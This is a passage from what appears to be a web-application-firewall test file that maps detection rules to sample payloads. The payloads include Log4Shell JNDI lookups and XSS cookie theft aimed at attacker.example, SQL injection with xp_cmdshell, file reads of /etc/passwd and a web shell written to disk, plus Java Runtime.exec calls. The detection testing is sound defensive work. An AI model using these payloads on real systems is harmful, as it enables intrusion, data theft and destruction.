        "org.hibernate.engine.spi.TypedValue",
        "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",
    ]),
    ("java", "java-method-call", "Remote Command Execution: Suspicious Java method detected", [
        "getRuntime().exec(\"id\")",
        ".getClass().forName(\"java.lang.Runtime\")",
        "getDeclaredMethod(\"exec\", String.class).invoke(null, \"id\")",
        ".loadClass(\"Exploit\").newInstance()",
        "Class.forName('x').getConstructor().newInstance()",
        "getMethod(\"getRuntime\").invoke(null)",
        "setAccessible(true)",
        "defineClass(bytes, 0, bytes.length)",
    ]),
    ("java", "log4shell", "Potential Remote Command Execution: Log4j / Log4shell (4.x)", [
        "${jndi:ldap://attacker.example:1389/a}",
        "${jndi:rmi://203.0.113.9/x}",
        "${${lower:j}ndi:ldap://attacker.example/e}",
        "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/x}",
        "${jndi:ldap://${env:USER}.attacker.example/a}",
        "${j${upper:n}di:ldaps://attacker.example/b}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/c}",
        "$%7Bjndi:ldap://attacker.example/d%7D",
        "${jndi:dns://attacker.example/${java:version}}",
    ]),
    ("java", "java-class-loading", "Malicious class-loading payload (4.x)", [
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c}i",
        "class.classLoader.URLs[0]=http://attacker.example/x.jar",
        "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/e.jar\")})"
        ".loadClass(\"E\")",
        "Thread.currentThread().getContextClassLoader().loadClass(\"Payload\")",
        "class['classLoader']['resources']['dirContext']['docBase']=/",
        "defineClass(\"Exploit\", b, 0, b.length)",
        "Class.forName(\"Evil\", true, new URLClassLoader(urls))",
        "classLoader.parent.loadClass('java.lang.Runtime')",
    ]),
    ("java", "jsp-upload-name", "Java script file upload (4.x)", [
        "shell.jsp",
        "cmd.jspx",
        "x.jsp;.png",
        "upload.JSP",
        "filename=\"browser.jspf\"",
        "index.jsp%00.jpg",
        "payload.jsp/",
    ]),
    ("java", "java-method-2", "Suspicious Java method detected (4.x)", [
        ".exec(new String[]{\"/bin/sh\",\"-c\",\"id\"})",
        "Runtime.getRuntime().exec(request.getParameter(\"c\"))",
        "new ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"1+1\")",
        "invoke(null, new Object[0])",
        "java.lang.reflect.Method.invoke",
        "Files.readAllLines(Paths.get(\"/etc/passwd\"))",
        "newInstance()",
        "getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')",
    ]),
    # ---------------------------------------------------------------- xss
    ("xss", "xss-libinjection", "XSS Attack Detected via libinjection", [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "\"><svg/onload=alert(1)>",
        "<body onload=prompt(1)>",
        "javascript:alert(1)",
        "'><iframe src=javascript:alert(1)>",
        "<ScRiPt>confirm`1`</sCrIpT>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
    ]),
    ("xss", "xss-script-tag", "XSS Filter - Category 1: Script Tag Vector", [
        "<script>",
        "<script src=//attacker.example/x.js></script>",
        "<SCRIPT>fetch('//attacker.example/?c='+document.cookie)</SCRIPT>",
        "<script\n>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "</script><script>alert(1)//",
        "<script type=\"text/javascript\">x</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
    ]),
    ("xss", "xss-event-handler", "XSS Filter - Category 2: Event Handler Vector", [
        "onerror=alert(1)",
        "\" onmouseover=\"alert(1)",
        "<img src=1 onerror=alert(1)>",
        "<div onpointerenter=alert(1)>hover</div>",
        "' autofocus onfocus='alert(1)",
        "<svg onload=alert`1`>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\">",
        "ONLOAD =confirm(1)",
    ]),
    ("xss", "xss-attribute", "XSS Filter - Category 3: Attribute Vector", [
        "<a xlink:href=\"javascript:alert(1)\">",
        "style=\"x:expression(alert(1))\"",
        "<svg><animate attributeName=href values=javascript:alert(1)>",
        "<button formaction=javascript:alert(1)>x",
        "<form action=javascript:alert(1)><input type=submit>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<svg><set attributeName=onload to=alert(1)>",
    ]),
    ("xss", "xss-js-uri", "XSS Filter - Category 4: Javascript URI Vector", [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "java\tscript:alert(1)",
        "<a href=\"javascript:void(fetch('//attacker.example'))\">click</a>",
        "vbscript:msgbox(1)",
        "javascript&#58;alert(1)",
        "  javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\">",
    ]),
    ("xss", "xss-html-injection", "NoScript XSS InjectionChecker: HTML Injection", [
        "<iframe src=//attacker.example>",
        "<form action=//attacker.example/login><input name=user>",
        "<object data=x.swf>",
        "<embed src=//attacker.example/x.swf>",
        "<base href=//attacker.example/>",
        "<link rel=import href=//attacker.example/x>",
        "<meta http-equiv=refresh content=0;url=//attacker.example>",
        "<svg><script>alert(1)</script>",
        "<isindex action=javascript:alert(1) type=image>",
    ]),
    ("xss", "xss-attr-injection", "NoScript XSS InjectionChecker: Attribute Injection", [
        "\" style=\"background:url(javascript:alert(1))",
        "x\" onclick=\"alert(1)",
        "' src='javascript:alert(1)",
        "\"><a href=\"javascript:alert(1)\">",
        "style=behavior:url(x.htc)",
        "\" formaction=\"javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "x' lowsrc='javascript:alert(1)",
    ]),
    ("xss", "xss-blacklist-words", "Node-Validator Blacklist Keywords", [
        "document.cookie",
        "document.write('<img src=//attacker.example/'+document.cookie+'>')",
        ".parentNode",
        ".innerHTML='<b>x</b>'",
        "window.location='//attacker.example'",
        "-moz-binding:url(//attacker.example/x.xml#x)",
        "<![CDATA[<script>alert(1)</script>]]>",
        "--><script>alert(1)</script>",
    ]),
    ("xss", "ie-style-import", "IE XSS Filters - Attack Detected [190]", [
        "<style>@import 'http://attacker.example/x.css';</style>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
        "<style>body{background:url(\"javascript:alert(1)\")}</style>",
        "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style>",
        "<style type=text/css>@import url(//attacker.example/a.css);</style>",
        "<style>*{x:expression(alert(1))}</style>",
    ]),
    ("xss", "ie-vmlframe", "IE XSS Filters - Attack Detected [200]", [
        "<v:vmlframe src=\"//attacker.example/x.vml#xss\">",
        "<vmlframe src=x>",
        "<v:image src=\"javascript:alert(1)\">",
        "<?xml:namespace prefix=v ns=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=#x>",
        "<VMLFRAME SRC=\"http://attacker.example/a\">",
        "<v:vmlframe  src =//attacker.example/v>",
    ]),
    ("xss", "ie-obf-javascript", "IE XSS Filters - Attack Detected [210]", [
        "j&#97;vascript:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "javas&#x09;cript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "&#x6A;avascript:alert(1)",
        "ja&Tab;vascript:alert(1)",
        "javascri&#112;t:alert(1)",
    ]),
    ("xss", "ie-obf-vbscript", "IE XSS Filters - Attack Detected [220]", [
        "vbscript:msgbox(1)",
        "vb&#115;cript:msgbox(1)",
        "&#118;&#98;script:Execute(\"x\")",
        "v&#x62;script:alert(1)",
        "VBSCRIPT:MsgBox(\"x\")",
        "vbs&#x09;cript:msgbox(1)",
        "<a href=\"vbscript:msgbox(document.cookie)\">x</a>",
    ]),
    ("xss", "ie-embed", "IE XSS Filters - Attack Detected [230]", [
        "<embed src=\"javascript:alert(1)\">",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+\">",
        "<embed src=//attacker.example/x.swf allowscriptaccess=always>",
        "<embed code=x.swf>",
        "<embed type=image/svg+xml src=x.svg>",
        "<embed\nsrc=x>",
        "<emBed src=x.swf>",
    ]),
    ("xss", "ie-import-impl", "IE XSS Filters - Attack Detected [240]", [
        "<html xmlns:x><?import namespace=\"x\" implementation=\"//attacker.example/x.htc\">",
        "<?import implementation=\"x.htc\">",
        "<t:set attributeName=innerHTML to=XSS<SCRIPT>alert(1)</SCRIPT>>",
        "<?IMPORT namespace=\"t\" implementation=\"#default#time2\">",
        "<import implementation=x>",
        "<?import namespace=x implementation=//attacker.example/b.htc?>",
    ]),
    ("xss", "ie-meta", "IE XSS Filters - Attack Detected [250]", [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<meta charset=\"UTF-7\">",
        "<meta http-equiv=refresh content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<meta name=x content=x http-equiv=refresh>",
        "<META HTTP-EQUIV=\"Link\" Content=\"<http://attacker.example/x.css>; REL=stylesheet\">",
    ]),
    ("xss", "ie-link-href", "IE XSS Filters - Attack Detected [260]", [
        "<link rel=stylesheet href=javascript:alert(1)>",
        "<LINK REL=\"stylesheet\" HREF=\"http://attacker.example/x.css\">",
        "<link href=//attacker.example/x.css rel=stylesheet>",
        "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
        "<link rel=preload href=//attacker.example/a as=script>",
        "<link\thref=x>",
    ]),
    ("xss", "ie-css-expression", "IE XSS Filters - Attack Detected [270]", [
        "<div style=\"width:expression(alert(1))\">",
        "style=x:expr/**/ession(alert(1))",
        "<p style=\"behavior:url(#default#time2)\">",
        "<xss style=\"xss:expression(document.body.innerHTML='x')\">",
        "-ms-behavior:url(x.htc)",
        "<span style='background-image:expression(alert(1))'>",
    ]),
    ("xss", "ie-base", "IE XSS Filters - Attack Detected [280]", [
        "<base href=\"javascript:alert(1)//\">",
        "<BASE HREF=\"http://attacker.example/\">",
        "<base href=//attacker.example/>",
        "<base target=_blank href=x>",
        "<base\nhref=//attacker.example>",
        "<base href=data:text/html,x>",
    ]),
    ("xss", "ie-applet", "IE XSS Filters - Attack Detected [290]", [
        "<applet code=\"Exploit.class\" codebase=\"http://attacker.example/\">",
        "<APPLET CODE=x.class>",
        "<applet archive=//attacker.example/x.jar code=X>",
        "<applet code=javascript:alert(1)></applet>",
        "<applet\tcode=a>",
        "<applet object=x.ser>",
    ]),
    ("xss", "ie-object", "IE XSS Filters - Attack Detected [300]", [
        "<object data=\"javascript:alert(1)\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://attacker.example/x.sct\">",
        "<object classid=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\">",
        "<object data=//attacker.example/x.swf type=application/x-shockwave-flash>",
        "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg>",
        "<object codebase=//attacker.example/x.cab>",
    ]),
    ("xss", "xss-ascii-malformed", "US-ASCII Malformed Encoding XSS Filter - Attack Detected", [
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "%BCscript%BEalert(1)%BC/script%BE",
        "\u00bcsvg onload=alert(1)\u00be",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "x\u00be\u00bcscript\u00beprompt(1)\u00bc/script\u00be",
    ]),
    ("xss", "xss-utf7", "UTF-7 Encoding IE XSS - Attack Detected", [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src=x onerror=alert(1)+AD4-",
        "+ADwAcwBjAHIAaQBwAHQAPg-",
        "+ACIAPgA8-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-svg/onload=alert(1)+AD4-",
        "charset=UTF-7 +ADw-script+AD4-",
    ]),
    ("xss", "jsfuck", "JSFuck / Hieroglyphy obfuscation detected", [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+[]]",
        "(!![]+[])[+!+[]]",
        "+[![]]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$]}",
        "([][[]]+[])[+!![]]",
        "[!+[]+!+[]]+[+[]]",
        "\uff9f\u03c9\uff9f\uff89= /\uff40\uff4d\u00b4\uff09\uff89 ~\u253b\u2501\u253b",
    ]),
    ("xss", "js-global-var", "JavaScript global variable found", [
        "window['al'+'ert'](1)",
        "self[\"alert\"](document.domain)",
        "top['ev'+'al']('alert(1)')",
        "this['alert'](1)",
        "parent[/al/.source+/ert/.source](1)",
        "globalThis['fetch']('//attacker.example')",
        "frames[0]['eval']('x')",
        "document['cookie']",
        "window [ 'location' ] = '//attacker.example'",
    ]),
    ("xss", "xss-libinjection-short", "XSS Attack Detected via libinjection [PL2]", [
        "<svg/onload=alert(1)>",
        "<x onclick=alert(1)>",
        "\"><img src onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "'><script>alert(1)</script>",
        "<audio src=x onerror=confirm(1)>",
    ]),
    ("xss", "xss-disallowed-attr", "XSS Filter - Category 5: Disallowed HTML Attributes", [
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
        "<a href=x dynsrc=javascript:alert(1)>",
        "<img lowsrc=javascript:alert(1)>",
        "<div datasrc=#x datafld=y>",
        "<input type=image src=x formaction=//attacker.example>",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<table background=\"javascript:alert(1)\">",
    ]),
    ("xss", "xss-html-tag", "Possible XSS Attack Detected - HTML Tag Handler", [
        "<xml>",
        "<html><body>hi</body></html>",
        "<iframe>",
        "<frameset><frame src=//attacker.example>",
        "<textarea autofocus>",
        "<form>",
        "<audio src=x>",
        "<marquee>",
    ]),
    ("xss", "ie-location-assign", "IE XSS Filters - Attack Detected [330]", [
        "\";location='javascript:alert(1)';\"",
        "';document.location='//attacker.example/?'+document.cookie;//",
        "\"-alert(1)-\"",
        "';alert(String.fromCharCode(88,83,83))//",
        "\\\";alert(1);//",
        "'+alert(1)+'",
        "\";top.name=document.cookie;//",
    ]),
    ("xss", "ie-property-access", "IE XSS Filters - Attack Detected [340]", [
        "\".constructor.constructor('alert(1)')()//",
        "';[].constructor.constructor('alert(1)')();'",
        "\"onresize=alert(1)//",
        "x=\"\";alert(1)//",
        "'};alert(1);{'",
        "\"};window.onerror=alert;throw 1;//",
        "</title><script>alert(1)</script>",
    ]),
    ("xss", "js-method", "Javascript method detected (4.x)", [
        "alert(1)",
        "eval(atob('YWxlcnQoMSk='))",
        "String.fromCharCode(97,108,101,114,116)",
        "setTimeout('alert(1)')",
        "fetch('//attacker.example/'+document.cookie)",
        "prompt(document.domain)",
        "atob('PHNjcmlwdD4=')",
        "confirm (1)",
        "import('//attacker.example/x.js')",
    ]),
    ("xss", "js-no-parens", "XSS JavaScript function without parentheses (4.x)", [
        "alert`1`",
        "onerror=alert;throw 1",
        "setTimeout`alert\\x281\\x29`",
        "<img src=x onerror=location='javascript:alert%281%29'>",
        "[1].find(alert)",
        "eval.call`${'alert\\x281\\x29'}`",
        "{onerror=alert}throw 1",
        "valueOf=alert;window+''",
    ]),
    # ---------------------------------------------------------------- ssti
    ("ssti", "angular-csti", "AngularJS client side template injection detected", [
        "{{constructor.constructor('alert(1)')()}}",
        "{{7*7}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)');}}",
        "{{[].pop.constructor('alert(1)')()}}",
        "<div ng-app>{{$eval.constructor('alert(1)')()}}</div>",
        "{{ toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor) }}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    ]),
    ("ssti", "angular-csti-2", "AngularJS client side template injection (4.x)", [
        "{{constructor.constructor('fetch(\"//attacker.example\")')()}}",
        "<x ng-app ng-csp ng-click=$event.view.alert(1)>",
        "{{$eval('1+1')}}",
        "{{ 1337*2 }}",
        "{{'a'.constructor.fromCharCode(65)}}",
        "<div ng-app ng-csp><input autofocus ng-focus=$event.path|orderBy:'[].constructor.from([1],alert)'>",
        "{{$new.constructor('alert(1)')()}}",
    ]),
    # ---------------------------------------------------------------- sqli (PL1)
    ("sqli", "sqli-libinjection", "SQL Injection Attack Detected via libinjection", [
        "' OR '1'='1",
        "1' AND 1=1-- -",
        "admin'--",
        "1 UNION SELECT username, password FROM users",
        "') OR ('a'='a",
        "1; DROP TABLE users--",
        "' UNION ALL SELECT NULL,NULL,@@version-- ",
        "x' AnD 1=0 uNiOn SeLeCt 1,2,3#",
    ]),
    ("sqli", "sqli-db-names", "SQL Injection Attack: Common DB Names Detected", [
        "information_schema.tables",
        "' UNION SELECT table_name FROM information_schema.tables--",
        "mysql.user",
        "master..sysdatabases",
        "pg_catalog.pg_tables",
        "sqlite_master",
        "msdb.dbo.backupset",
        "1 union select name from sys.databases",
        "INFORMATION_SCHEMA.COLUMNS",
    ]),
    ("sqli", "sqli-sleep-benchmark", "Detects blind sqli tests using sleep() or benchmark()", [
        "sleep(5)",
        "1 AND SLEEP(10)",
        "' OR BENCHMARK(5000000,MD5(1))#",
        "1) and sleep(3)-- ",
        "sLeEp(7)",
        "(SELECT * FROM (SELECT(SLEEP(5)))a)",
        "benchmark(1e7,sha1('x'))",
    ]),
    ("sqli", "sqli-conditional-delay", "Detects SQL benchmark and sleep injection attempts"
     " including conditional queries", [
        "SELECT IF(1=1,SLEEP(5),0)",
        "1 AND IF(SUBSTRING(version(),1,1)=5,BENCHMARK(2000000,SHA1(1)),null)",
        "' OR IF(1,SLEEP(3),1)-- ",
        "; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
        "select if(ascii(substr(database(),1,1))>97,sleep(2),0)",
        "1 and (select sleep(4) from dual where 1=1)",
        "IF(1=1) WAITFOR DELAY '0:0:5'",
        "select benchmark(100,md5('a'))",
    ]),
    ("sqli", "sqli-mssql-exec", "Detects MSSQL code execution and information gathering attempts", [
        "'; EXEC xp_cmdshell 'whoami'--",
        "exec master..xp_cmdshell 'dir'",
        "; EXEC sp_configure 'show advanced options',1;RECONFIGURE--",
        "1 union select @@version",
        "';exec('sel'+'ect 1')--",
        "' AND 1=(SELECT db_name())--",
        "xp_regread",
        "EXECUTE('xp_cmdshell ''ping 203.0.113.5''')",
        "select * from openrowset('SQLOLEDB','';'sa';'','select 1')",
    ]),
    ("sqli", "sqli-int-overflow", "Looking for integer overflow attacks (skipfish magic numbers)", [
        "2147483648",
        "4294967296",
        "-2147483649",
        "9223372036854775808",
        "3.0.00738585072007e-308",
        "2.2250738585072011e-308",
        "1e309",
        "18446744073709551616",
    ]),
    ("sqli", "sqli-case-when", "Detects conditional SQL injection attempts", [
        "CASE WHEN 1=1 THEN 1 ELSE 0 END",
        "' AND (CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1--",
        "1 OR IF(1=1,1,0)",
        ") OR CASE WHEN 1 THEN 1 END--",
        "ORDER BY (CASE WHEN (SELECT 1)=1 THEN id ELSE name END)",
        "iif(1=1,'a','b')",
        "' || (select case when substr(user,1,1)='a' then 1 else 0 end from dual)--",
    ]),
    ("sqli", "sqli-charset-waitfor", "Detects MySQL charset switch and MSSQL DoS attempts", [
        "SET NAMES gbk",
        "'; WAITFOR TIME '23:59:59'--",
        "_latin1'admin'",
        "CONVERT('x' USING utf8)",
        "alter table users convert to character set latin1",
        "%bf%27 OR 1=1-- ",
        "1;waitfor time '12:00'",
    ]),
    ("sqli", "sqli-match-merge-exec", "Detects MATCH AGAINST, MERGE and EXECUTE IMMEDIATE injections", [
        "MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)",
        "'; MERGE INTO users u USING dual ON (1=1) WHEN MATCHED THEN UPDATE SET role='admin'--",
        "EXECUTE IMMEDIATE 'DROP TABLE audit'",
        "1 and match(name) against('x')",
        "execute immediate 'select 1 from dual'",
        "merge users using (select 1) s on 1=1 when matched then delete;",
        "' OR MATCH (a,b) AGAINST ('*')#",
    ]),
    ("sqli", "sqli-union-select-from", "Looking for basic sql injection (mysql, oracle and others)", [
        "union select * from users",
        "' UNION SELECT email,name FROM accounts--",
        "1 union all select 1,2,3 from dual",
        "UNION/**/SELECT/**/user/**/FROM/**/mysql.user",
        "-1 union select token from sessions",
        "') union select null from sys.objects--",
        "UnIoN sElEcT cc FrOm payments",
    ]),
    ("sqli", "sqli-pgsleep-waitfor", "Detects Postgres pg_sleep injection, waitfor delay attacks"
     " and database shutdown", [
        "'; SELECT pg_sleep(10)--",
        "1; WAITFOR DELAY '0:0:10'--",
        "'; SHUTDOWN WITH NOWAIT;--",
        "pg_sleep(5)",
        "waitfor delay '00:00:05'",
        "1 AND 1=(SELECT 1 FROM pg_sleep(3))",
        "; shutdown --",
    ]),
    ("sqli", "nosql-mongo", "Finds basic MongoDB SQL injection attempts", [
        "{\"$ne\": null}",
        "[$ne]=1",
        "{\"$gt\": \"\"}",
        "{\"$where\": \"sleep(5000)\"}",
        "'; return this.passwd != ''; var x='",
        "[$regex]=^adm",
        "{\"username\":{\"$in\":[\"admin\",\"root\"]}}",
        "{$nin: [1]}",
    ]),
    ("sqli", "sqli-stored-proc", "Detects MySQL and PostgreSQL stored procedure/function injections", [
        "procedure analyse()",
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
        "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.so';--",
        "create or replace function x() returns void as $$ select 1 $$ language sql",
        "'; DECLARE @q varchar(99) SET @q='SELECT 1' EXEC(@q)--",
        "exec sp_executesql N'select 1'",
        "select lo_import('/etc/passwd')",
        "; CALL proc_admin_reset();--",
    ]),
    ("sqli", "sqli-udf-ddl", "Detects MySQL UDF injection and other data/structure manipulation attempts", [
        "; CREATE FUNCTION do_system RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'",
        "'; DROP TABLE users;--",
        "; ALTER TABLE users ADD admin int;--",
        "'; INSERT INTO users(name,role) VALUES('eve','admin');--",
        "; TRUNCATE TABLE audit_log",
        "1; UPDATE users SET role='admin' WHERE id=1",
        "select sys_eval('id')",
        "'; DELETE FROM sessions;#",
    ]),
    ("sqli", "sqli-load-file-concat", "Detects concatenated basic SQL injection and SQLLFI attempts", [
        "LOAD_FILE('/etc/passwd')",
        "' UNION SELECT LOAD_FILE(0x2f6574632f706173737764)--",
        "select 1 into outfile '/var/www/html/x.php'",
        "1 union select '<?php system($_GET[0]); ?>' into dumpfile '/tmp/s.php'",
        "LOAD DATA INFILE '/etc/hosts' INTO TABLE t",
        "'; SELECT CONCAT(user,0x3a,host) FROM mysql.user--",
        "1, (select group_concat(name) from users)",
        "aNd 1=2 UnIoN sElEcT load_file('/root/.my.cnf')",
    ]),
    ("sqli", "sqli-inline-comment", "MySQL in-line comment detected", [
        "/*!50000UNION*/ SELECT 1",
        "1/*!AND*/1=1",
        "/*!SELECT*/ user()",
        "' /*!12345OR*/ 1=1-- ",
        "/*!50000select*/ @@version",
        "UN/**/ION/*!*/SELECT",
        "/*! sleep(5) */",
    ]),
    # ---------------------------------------------------------------- sqli (PL2)
    ("sqli", "sqli-probe-quotes", "SQL Injection Attack: Common Injection Testing Detected", [
        "'",
        "''",
        "\"'",
        "`",
        "')",
        "\")",
        "'--",
    ]),
    ("sqli", "sqli-operators", "SQL Injection Attack: SQL Operator Detected", [
        "1 RLIKE 1",
        "x' REGEXP '^a",
        "1 XOR 1",
        "id SOUNDS LIKE 'adm'",
        "name NOT BETWEEN 0 AND 9",
        "1 IS NOT NULL",
        "!= 1 OR 1 <=> 1",
        "a' LIKE '%",
    ]),
    ("sqli", "sqli-tautology", "SQL Injection Attack: SQL Tautology Detected", [
        "1=1",
        "' OR 'x'='x",
        "1 OR 2>1",
        "' or 'a'<>'b",
        "\" OR \"\"=\"",
        "or 1 = 1",
        "x' OR 3 != 4--",
    ]),
    ("sqli", "sqli-function-names", "SQL Injection Attack [150]", [
        "concat(0x3a,user())",
        "substring(version(),1,1)",
        "ascii(char(65))",
        "extractvalue(1,concat(0x7e,database()))",
        "updatexml(1,concat(0x7e,user()),1)",
        "group_concat(table_name)",
        "CHAR(83)+CHAR(81)+CHAR(76)",
        "hex(load_file(0x2f))",
    ]),
    ("sqli", "sqli-auth-bypass-1", "Detects basic SQL authentication bypass attempts 1/3", [
        "admin' --",
        "' or 1=1 limit 1 -- -+",
        "\" or \"\" = \"",
        "admin'/*",
        "' or ''='",
        "1' or '1'='1' #",
        "') or true--",
    ]),
    ("sqli", "sqli-comment-space", "Detects MySQL comment-/space-obfuscated injections and backtick termination", [
        "1/**/OR/**/1=1",
        "union/**/select",
        "'/**/or/**/'1'='1",
        "1`) OR 1=1#",
        "select\nusername\nfrom\nusers",
        "'or(1)=(1)#",
        "UNION(SELECT(1),(2))",
    ]),
    ("sqli", "sqli-chained-1", "Detects chained SQL injection attempts 1/2", [
        "'; select 1; --",
        "1; SELECT * FROM users WHERE 1=1",
        "'); DROP TABLE x;--",
        "1 AND 1=1; SELECT @@version",
        "x'; update users set role='admin' where name='eve'; --",
        "; begin declare @x int; end",
        "0; shutdown",
    ]),
    ("sqli", "sqli-auth-bypass-2", "Detects basic SQL authentication bypass attempts 2/3", [
        "' or 1 --",
        "admin' or 'a'='a",
        "' or username like '%adm%",
        "' OR 1=1 LIMIT 1#",
        "\") or (\"1\"=\"1",
        "' or true #",
        "anything' OR 'x'='x",
    ]),
    ("sqli", "sqli-char-conditions", "Detects MySQL comments, conditions and ch(a)r injections", [
        "char(97,100,109,105,110)",
        "chr(65)||chr(66)",
        ") and (select 1)=1#",
        "' and char(49)=char(49)-- ",
        "1) OR (1)=(1)#",
        "concat(char(60),char(63))",
        "' or chr(115)='s",
    ]),
    ("sqli", "sqli-chained-2", "Detects chained SQL injection attempts 2/2", [
        "'; INSERT INTO logs VALUES(1);--",
        "1); select pg_sleep(1);--",
        "'; EXEC('SELECT 1');--",
        "\"; select load_file('/etc/hosts'); --",
        "1 or 1=1; --",
        "x'); create table t(a int);--",
        "'; set @s='x'; --",
    ]),
    ("sqli", "sqli-classic-probe-1", "Detects classic SQL injection probings 1/3", [
        "' and '1'='1",
        "\" and 1=1 --",
        "1' or '1",
        "x' and 'x'='y",
        "1) and (1=1",
        "'=' 'or'",
        "admin\" or 1=1 -- -",
    ]),
    ("sqli", "sqli-auth-bypass-3", "Detects basic SQL authentication bypass attempts 3/3", [
        "' or 1 in (select 1) --",
        "admin' IN ('admin')--",
        "') or ('x') = ('x",
        "' or 'a' in ('a')#",
        "\" or 1 between 0 and 2 --",
        "' or exists(select 1)--",
        "user' or not 0--",
    ]),
    ("sqli", "sqli-alter-union", "Detects basic SQL injection based on keyword alter or union", [
        "alter table users drop column email",
        "1 union select 1",
        "' union select @@datadir",
        "ALTER USER root IDENTIFIED BY 'x'",
        "x union distinct select version()",
        "-1' UNION SELECT 1,2-- -",
        "alter database x owner to attacker",
    ]),
    ("sqli", "sqli-classic-probe-2", "Detects classic SQL injection probings 2/3", [
        "\"; --",
        "' = '",
        "x' like 'x",
        "'; --",
        "\" || '1",
        "1 '",
        "' ) ; --",
    ]),
    ("sqli", "sqli-having-exists", "SQL Injection Attack [380]", [
        "' HAVING 1=1--",
        "1 GROUP BY id HAVING 1=1",
        "' and exists(select * from users)--",
        "ORDER BY 10--",
        "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
        "having count(*)>0",
        "' or exists (select 1 from dual)--",
    ]),
    ("sqli", "sqli-or-and-exprs", "SQL Injection Attack [390]", [
        "or 1>0",
        "' and 2<3 and 'a'='a",
        "||1#",
        "' xor 1=1 #",
        "|| 1=1",
        "&& 1=1",
        "' or '1'>'0",
    ]),
    ("sqli", "sqli-and-select", "SQL Injection Attack [400]", [
        "and (select 1)",
        "' and (select count(*) from users)>0--",
        "and 1 in (select @@version)",
        "1 AND (SELECT substring(passwd,1,1) FROM users LIMIT 1)='a'",
        "' and (select top 1 name from sysobjects)>0--",
        "and exists(select 1)",
        "x' AND (SELECT 'a')='a",
    ]),
    ("sqli", "sqli-funcs-extra", "SQL Injection Attack [410]", [
        "elt(1,sleep(1))",
        "make_set(1,user())",
        "coalesce(null,version())",
        "ifnull(1,2)",
        "nullif(1,1)",
        "' and ord(mid(user(),1,1))>64-- ",
        "current_user()",
        "cast(version() as int)",
    ]),
    ("sqli", "sqli-sysobjects-misc", "SQL Injection Attack [470]", [
        "xp_cmdshell",
        "sp_password",
        "SELECT * FROM sys.sql_logins",
        "utl_http.request('http://attacker.example/')",
        "dbms_pipe.receive_message(('a'),10)",
        "sp_oacreate",
        "sys.fn_varbintohexstr",
        "xp_dirtree '\\\\attacker.example\\a'",
    ]),
    ("sqli", "sqli-select-clauses", "SQL Injection Attack [480]", [
        "SELECT * FROM users WHERE 1",
        "insert into users values (1,'x')",
        "update users set name = 'x' where id = 1",
        "delete from users where 1=1",
        "select top 5 * from orders",
        "' union select * from (select 1)a join (select 2)b--",
        "SELECT id FROM t LIMIT 1 OFFSET 0",
    ]),
    ("sqli", "sqli-special-char-count", "Restricted SQL Character Anomaly Detection (args)", [
        "'''''''''''''",
        "\"\";;;--!!@@##$$",
        "((((((((((((((1))))))))))))))",
        ";;--;;--;;--;;--",
        "'/**/;/**/'/**/;/**/'",
        "@@@@@@@@@@@@@@@",
        "~!@#$%^&*()_+{}|:<>?",
    ]),
